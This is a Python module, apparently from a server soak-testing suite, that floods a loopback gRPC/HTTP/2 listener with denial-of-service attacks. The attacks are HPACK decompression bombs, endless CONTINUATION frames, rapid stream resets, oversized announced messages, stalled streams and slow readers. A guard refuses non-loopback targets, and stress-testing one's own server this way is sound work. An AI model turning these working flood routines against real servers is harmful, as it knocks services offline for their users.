"""Attackers without mercy for themselves: each is a process that attacks one listener on loopback for so many seconds, and ends.

    python -m soak.attackers ATTACK SECONDS HOST:PORT [METHOD [TOKEN]]

They come from an address of their own (ATTACKER_ADDRESS), so that a server can tell them from the honest. A connection that the server ends
is made anew, as an attacker would. They refuse any target beyond 127.0.0.0/8. Guests that attack are in soak.attacking_guests.
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import socket
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from soak import frames

ATTACKER_ADDRESS = "127.0.0.66"
UNKNOWN_METHOD = "/no.Service/Method"
CONNECTIONS = 2
HOLDING_CONNECTIONS = 12
STREAMS_PER_CONNECTION = 100
READERS = 100
# 6 KB a second for each reader.
READ_BYTES, READ_EVERY_SECONDS = 600, 0.1
# Kernels double it and have a least one; small, so that the answer waits in the server.
RECEIVE_BUFFER_BYTES = 4096
# A refused attacker comes back; without a pause it would measure the machine's accept().
COME_BACK_SECONDS = 0.1
# One write of frames; the event loop gets its turn between two.
BATCH = 50
# gRPC takes up to 16 KiB of header fields by default: this is under it, and its block has a few bytes after the first one.
FIELD_BYTES, FIELDS = 3800, 3
STREAM_LIMIT = 2**31 - 1


@dataclass(frozen=True, slots=True)
class Target:
    """What is attacked."""

    host: str
    port: int
    path: str
    token: str

    def block(self) -> bytes:
        """The header block of a call."""
        return frames.request(self.path, *([("authorization", f"Bearer {self.token}")] if self.token else []))


class Connection:
    """One connection of an attacker, which answers pings and settings so that it may stay."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._window = frames.WINDOW_BYTES
        self._opened = asyncio.Event()
        self._next = -1
        writer.write(frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0))

    def stream(self) -> int:
        """The next stream's number."""
        self._next += 2
        if self._next > STREAM_LIMIT:
            raise ConnectionError("all streams of the connection are used")
        return self._next

    async def send(self, data: bytes) -> None:
        """Send, as fast as the server reads."""
        self._writer.write(data)
        await self._writer.drain()
        await asyncio.sleep(0)

    async def take_window(self, size: int) -> None:
        """Wait until the server lets so many bytes through on all streams together."""
        while self._window < size:
            self._opened.clear()
            await self._opened.wait()
        self._window -= size

    async def listen(self) -> None:
        """Answer what must be answered until the server ends the connection."""
        taken = frames.Frames()
        while data := await self._reader.read(65536):
            for kind, flags, stream, payload in taken.take(data):
                if kind in (frames.PING, frames.SETTINGS) and not flags & frames.ACK:
                    body = payload if kind == frames.PING else b""
                    self._writer.write(frames.frame(kind, frames.ACK, 0, body))
                elif kind == frames.WINDOW_UPDATE and stream == 0:
                    self._window += int.from_bytes(payload, "big")
                    self._opened.set()
        raise ConnectionError("ended by the server")


Attack = Callable[[Connection, Target], Awaitable[None]]


async def unpacking(connection: Connection, target: Target) -> None:
    """Ever more calls that stay open; the header block of each is some bytes and unpacks to 11 KB."""
    first = target.block() + frames.remembered("x", "a" * FIELD_BYTES)
    await connection.send(frames.frame(frames.HEADERS, frames.END_HEADERS, connection.stream(), first))
    block = target.block() + frames.NEWEST * FIELDS
    while True:
        await connection.send(
            b"".join(frames.frame(frames.HEADERS, frames.END_HEADERS, connection.stream(), block) for _ in range(BATCH))
        )


async def continued(connection: Connection, target: Target) -> None:
    """One header block that never ends; each byte of it unpacks to 3.8 KB."""
    stream = connection.stream()
    first = target.block() + frames.remembered("x", "a" * FIELD_BYTES)
    await connection.send(frames.frame(frames.HEADERS, 0, stream, first))
    while True:
        await connection.send(frames.frame(frames.CONTINUATION, 0, stream, frames.NEWEST * frames.FRAME_BYTES))


async def announced(connection: Connection, target: Target) -> None:
    """Calls that announce a message of 4 GiB, and what the window lets through of it."""
    while True:
        stream = connection.stream()
        await connection.send(frames.frame(frames.HEADERS, frames.END_HEADERS, stream, target.block()))
        body = frames.message(bytes(frames.FRAME_BYTES - 5), 0xFFFFFFFF)
        await connection.take_window(len(body))
        await connection.send(frames.frame(frames.DATA, 0, stream, body))


async def endless(connection: Connection, target: Target) -> None:
    """Whole calls, as many as the server takes; nobody waits for an answer."""
    while True:
        batch = b""
        for _ in range(BATCH):
            stream = connection.stream()
            batch += frames.frame(frames.HEADERS, frames.END_HEADERS, stream, target.block())
            batch += frames.frame(frames.DATA, frames.END_STREAM, stream, frames.message(b""))
        await connection.take_window(BATCH * len(frames.message(b"")))
        await connection.send(batch)


async def resets(connection: Connection, target: Target) -> None:
    """Calls that are reset at once."""
    while True:
        batch = b""
        for _ in range(BATCH):
            stream = connection.stream()
            batch += frames.frame(frames.HEADERS, frames.END_HEADERS, stream, target.block())
            batch += frames.frame(frames.RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
        await connection.send(batch)


async def bodiless(connection: Connection, target: Target) -> None:
    """Calls whose request never comes."""
    for _ in range(STREAMS_PER_CONNECTION):
        await connection.send(frames.frame(frames.HEADERS, frames.END_HEADERS, connection.stream(), target.block()))
    await asyncio.Event().wait()


# How each attacks, and with how many connections.
ATTACKS: dict[str, tuple[Attack, int]] = {
    "unpacking": (unpacking, CONNECTIONS),
    "continued": (continued, CONNECTIONS),
    "announced": (announced, CONNECTIONS),
    "endless": (endless, CONNECTIONS),
    "resets": (resets, CONNECTIONS),
    "bodiless": (bodiless, HOLDING_CONNECTIONS),
}
SLOW_READERS = "slow readers"


async def _attack_once(attack: Attack, target: Target) -> None:
    reader, writer = await asyncio.open_connection(target.host, target.port, local_addr=(ATTACKER_ADDRESS, 0))
    try:
        connection = Connection(reader, writer)
        tasks = [asyncio.ensure_future(connection.listen()), asyncio.ensure_future(attack(connection, target))]
        try:
            await asyncio.wait(tasks, return_when=asyncio.FIRST_EXCEPTION)
        finally:
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
    finally:
        writer.transport.abort()


async def _read_slowly(target: Target) -> None:
    loop = asyncio.get_running_loop()
    with socket.socket() as client:
        client.setblocking(False)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER_BYTES)
        client.bind((ATTACKER_ADDRESS, 0))
        await loop.sock_connect(client, (target.host, target.port))
        await loop.sock_sendall(client, f"GET {target.path} HTTP/1.1\r\nhost: localhost\r\n\r\n".encode("ascii"))
        while await loop.sock_recv(client, READ_BYTES):  # noqa: ASYNC110 - a reader that is slow is what is wanted
            await asyncio.sleep(READ_EVERY_SECONDS)


async def _again(once: Callable[[], Awaitable[None]]) -> None:
    while True:
        with contextlib.suppress(OSError):
            await once()
        await asyncio.sleep(COME_BACK_SECONDS)


async def attack(name: str, seconds: float, target: Target) -> None:
    """Attack for so many seconds."""
    if name == SLOW_READERS:
        many = [_again(lambda: _read_slowly(target)) for _ in range(READERS)]
    else:
        how, connections = ATTACKS[name]
        many = [_again(lambda: _attack_once(how, target)) for _ in range(connections)]
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*many)


def target_of(address: str, path: str = UNKNOWN_METHOD, token: str = "") -> Target:
    """The target at HOST:PORT; raises ValueError beyond loopback."""
    host, _, port = address.rpartition(":")
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"{host} is not loopback: attackers attack this machine only")
    return Target(host, int(port), path, token)


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], float(sys.argv[2]), target_of(*sys.argv[3:])))
